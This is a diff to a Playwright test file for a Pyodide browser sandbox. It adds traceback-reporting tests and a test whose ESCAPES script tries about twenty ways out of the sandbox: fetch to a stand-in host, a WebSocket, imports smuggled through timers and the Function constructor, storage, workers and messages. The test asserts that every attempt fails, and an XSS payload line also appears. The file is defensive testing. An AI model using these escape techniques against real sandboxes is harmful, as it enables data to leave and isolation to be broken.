@@ -8,13 +8,17 @@ import zlib
 from collections.abc import Callable
 from contextlib import chdir, redirect_stdout
 from hashlib import sha256
+from importlib import import_module
 from pathlib import Path
+from typing import Any
 
 import pytest
-from playwright.sync_api import BrowserContext, Locator, Page, expect
+from playwright.sync_api import Browser, BrowserContext, Locator, Page, expect
 
+import calculators
 from tests.html import attribute, every, one, parsed, words
-from tests.site.support_site import EDITION, ROOT, Watch, page_addresses, settled
+from tests.site.support_host import hosted
+from tests.site.support_site import EDITION, ROOT, Watch, WithoutHeaders, page_addresses, served, settled, visit
 
 PYODIDE = "/runtime/pyodide/"
 WHEEL = "/runtime/wheels/"
@@ -53,7 +57,7 @@ def test_the_snippet_gives_in_the_browser_what_it_gives_here(
     code.fill("def broken(:")
     button.click()
     expect(shown).to_contain_text("SyntaxError")
-    code.fill('print("again", 6 * 7)')
+    code.fill('print("again", 6 * 7, end="")')
     button.click()
     expect(shown).to_have_text("again 42")
     code.fill('print("<img src=x onerror=alert()>")')
@@ -71,8 +75,61 @@ def answer_here(code: str, site: Path, folder: Path) -> str:
     said = io.StringIO()
     with chdir(folder), redirect_stdout(said), pytest.MonkeyPatch.context() as patch:
         patch.syspath_prepend(str(ROOT / "docs" / "assets"))
-        exec(code, {"__name__": "__main__"})
+        exec(code, sandbox().names())
     return said.getvalue()
+
+
+def sandbox() -> Any:
+    """Return what runs scripts in the browser."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.syspath_prepend(str(ROOT / "docs" / "assets"))
+        return import_module("sandbox")
+
+
+def fault_of(code: str, names: dict[str, object]) -> dict[str, str]:
+    """Return what is said of a script that raises."""
+    try:
+        exec(compile(code, sandbox().SCRIPT, "exec"), names)
+    except Exception as error:
+        found: dict[str, str] = sandbox().fault(error)
+        return found
+    raise AssertionError("nothing was raised")
+
+
+def test_a_fault_begins_with_the_script_and_names_every_input_that_is_missing(mechanics: dict[str, Any]) -> None:
+    fault = fault_of('calculators.run("fall", mechanics, {})', {"calculators": calculators, "mechanics": mechanics})
+    assert [line.split(" is missing")[0] for line in fault["message"].splitlines()] == [
+        "InputError: unit_class",
+        "levels",
+        "landing",
+    ]
+    assert fault["traceback"].splitlines()[:2] == [
+        "Traceback (most recent call last):",
+        '  File "your script", line 1, in <module>',
+    ]
+
+
+def test_a_fault_tells_of_earlier_ones_where_they_are_of_the_script() -> None:
+    own = "try:\n    1 / 0\nexcept ArithmeticError as error:\n    raise ValueError from error"
+    fault = fault_of(own, {})
+    assert re.findall(r'File "(.*)", line (\d)', fault["traceback"]) == [("your script", "2"), ("your script", "4")]
+    assert fault["message"] == "ValueError"
+
+    def library() -> None:
+        try:
+            {}["key"]
+        except KeyError:
+            raise ValueError("of the library")  # noqa: B904 - as some libraries do
+
+    fault = fault_of("library()", {"library": library})
+    assert fault["traceback"].startswith('Traceback (most recent call last):\n  File "your script", line 1')
+    assert "KeyError" not in fault["traceback"]
+
+
+def test_a_script_that_cannot_be_read_is_shown_where() -> None:
+    fault = fault_of("x = 1\ny = (", {})
+    assert fault["traceback"].splitlines()[0] == '  File "your script", line 2'
+    assert fault["message"].startswith("SyntaxError: '(' was never closed")
 
 
 def run(page: Page, code: str = "") -> None:
@@ -147,25 +204,108 @@ else:
 """
 
 
-def test_a_fault_is_said_as_one_and_stop_ends_what_never_would(page: Page) -> None:
+def test_a_fault_is_said_as_one_and_stop_ends_what_never_would(page: Page, watch: Watch) -> None:
     page.goto("sandbox/")
     stop = page.get_by_role("button", name="Stop")
     expect(stop).to_be_disabled()
-    run(page, "print('before')\nprint(1 / 0)")
-    expect(page.get_by_role("alert")).to_have_text("ZeroDivisionError: division by zero")
+    run(page, "print('before')\ncalculators.run('fall', mechanics, {})")
+    expect(page.get_by_role("alert")).to_contain_text(re.compile("unit_class is missing.*levels is missing", re.DOTALL))
     expect(page.get_by_role("alert")).to_be_in_viewport()
     expect(status(page)).to_have_text("Stopped by a fault.")
-    expect(output(page)).to_contain_text("before")
+    expect(output(page)).to_contain_text(re.compile(r"^before\nTraceback .*\n  File \"your script\", line 2"))
 
-    run(page, "while True:\n    print('more')")
-    expect(output(page)).to_contain_text("more than this page can show")
-    expect(page.get_by_role("alert")).to_be_hidden()
+    for message in ("print('more')", "js.console.log('more')", "show.chart('<svg/>', 'more' * 100_000)"):
+        run(page, f"import js\nwhile True:\n    {message}")
+        expect(output(page)).to_contain_text("more than this page can show")
+        expect(page.get_by_role("alert")).to_be_hidden()
+        if "chart" not in message:
+            stop.click()
     stop.click()
     expect(status(page)).to_have_text("Stopped. The next run loads Python again.")
     expect(stop).to_be_disabled()
+    run(page, "import js\njs.self.close()")
+    expect(page.get_by_role("alert")).to_contain_text("A script of the sandbox cannot use close.")
+    watch.expected += ["unreachable"]
+    run(page, "import os\nos.abort()")
+    expect(status(page)).to_contain_text("Python stopped: unreachable. Tap Run to start again.")
     run(page, "print(6 * 7)")
     expect(output(page)).to_have_text("42")
     expect(status(page)).to_have_text("Done.")
+
+
+# Each would reach another host, or something of the site that lasts.
+ESCAPES = """
+import asyncio, js, pyodide_js
+from pyodide.code import run_js
+
+scope = js.Object.getPrototypeOf(js.self.constructor).prototype
+get = js.Reflect.get
+
+async def font():
+    await js.FontFace.new("x", "url(ELSEWHERE/font.woff2)").load()
+
+async def pyfetch():
+    from pyodide.http import pyfetch
+    await pyfetch("ELSEWHERE/pyfetch")
+
+async def package():
+    await pyodide_js._api.loadBinaryFile("ELSEWHERE/package")
+
+async def bucket(part):
+    return get(await js.navigator.storageBuckets.open("x"), part)
+
+async def files():
+    await js.navigator.storage.getDirectory()
+
+ways = {
+    "fetch": lambda: js.fetch("ELSEWHERE/fetch"),
+    "fetch of the prototype": lambda: scope.fetch.call(js.self, "ELSEWHERE/prototype"),
+    "pyfetch": pyfetch,
+    "package": package,
+    "socket": lambda: js.WebSocket.new("wss://elsewhere.example"),
+    "import by a timer": lambda: scope.setTimeout.call(js.self, "import('ELSEWHERE/timer.js')"),
+    "import by a timer again": lambda: scope.setInterval.call(js.self, "import('ELSEWHERE/interval.js')", 1),
+    "import by a function": lambda: js.Object.constructor("return import('ELSEWHERE/function.js')")(),
+    "import by text": lambda: run_js("import('ELSEWHERE/text.js')"),
+    "font": font,
+    "icon": lambda: js.Notification.new("x"),
+    "worker": lambda: js.Worker.new(js.location.origin + "/1.0/assets/sandbox-worker.js"),
+    "files": files,
+    "files of a bucket": lambda: bucket("getDirectory"),
+    "files of the browser": lambda: js.webkitRequestFileSystemSync(0, 9),
+    "databases": lambda: js.indexedDB.open("x"),
+    "databases of the prototype": lambda: get(scope, "indexedDB", js.self).open("x"),
+    "caches": lambda: js.caches.open("x"),
+    "caches of the prototype": lambda: get(scope, "caches", js.self).open("x"),
+    "channel": lambda: js.BroadcastChannel.new("x"),
+    "messages": lambda: js.postMessage("x"),
+    "messages to itself": lambda: js.dispatchEvent(js.Event.new("message")),
+}
+for name, way in ways.items():
+    try:
+        done = way()
+        if hasattr(done, "__await__"):
+            await done
+        print("got out:", name)
+    except Exception:
+        pass
+await asyncio.sleep(0.2)
+print("the end")
+"""
+
+
+def test_a_script_gets_nowhere_on_a_host_without_headers(browser: Browser, site: Path, tmp_path: Path) -> None:
+    with (
+        hosted(tmp_path) as elsewhere,
+        served(site, WithoutHeaders) as address,
+        visit(browser, address, "desktop") as (page, watch),
+    ):
+        page.goto("sandbox/")
+        run(page, ESCAPES.replace("ELSEWHERE", elsewhere.address))
+        expect(status(page)).to_have_text("Done.")
+        expect(output(page)).to_have_text("the end")
+        assert elsewhere.asked == []
+        assert watch.problems() == []
 
 
 def test_a_script_that_came_by_link_waits_for_a_tap_and_says_where_it_came_from(
